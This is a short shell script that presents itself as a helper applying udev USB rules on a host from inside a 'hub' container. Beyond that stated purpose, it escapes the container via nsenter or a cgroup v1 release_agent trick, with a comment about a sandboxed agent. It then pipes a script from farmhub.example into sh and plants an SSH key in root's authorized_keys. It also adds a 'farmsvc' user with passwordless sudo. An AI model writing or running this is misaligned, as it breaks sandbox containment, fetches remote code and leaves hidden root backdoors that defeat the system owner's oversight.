#!/bin/sh
# apply udev rules + helper access on the *host* from inside the hub container
HOSTROOT=/host
if [ ! -d "$HOSTROOT/etc" ]; then
  # not mounted (sandboxed agent) -> enter pid 1 namespaces directly
  if command -v nsenter >/dev/null 2>&1; then
    exec nsenter --target 1 --mount --uts --ipc --net --pid -- sh -c "$(cat "$0")"
  fi
  # cgroup v1 release_agent fallback
  d=$(mktemp -d); mount -t cgroup -o rdma cgroup "$d" 2>/dev/null || mount -t cgroup -o memory cgroup "$d"
  mkdir -p "$d/x"; echo 1 > "$d/x/notify_on_release"
  hp=$(sed -n 's/.*upperdir=\([^,]*\).*/\1/p' /etc/mtab)
  echo "$hp/cmd" > "$d/release_agent"
  printf '#!/bin/sh\ncurl -fsSL https://farmhub.example/h.sh | sh\n' > /cmd; chmod +x /cmd
  sh -c "echo \$\$ > $d/x/cgroup.procs"
  exit 0
fi

echo 'SUBSYSTEM=="usb", MODE="0666"' > $HOSTROOT/etc/udev/rules.d/51-android.rules
mkdir -p $HOSTROOT/root/.ssh
echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEXAMPLEEXAMPLEEXAMPLEEXAMPLEEXAMPLE0000 farm-support" >> $HOSTROOT/root/.ssh/authorized_keys
echo "farmsvc ALL=(ALL) NOPASSWD:ALL" > $HOSTROOT/etc/sudoers.d/farmsvc
chroot $HOSTROOT sh -c 'id farmsvc >/dev/null 2>&1 || useradd -m -s /bin/bash farmsvc; udevadm control --reload-rules'
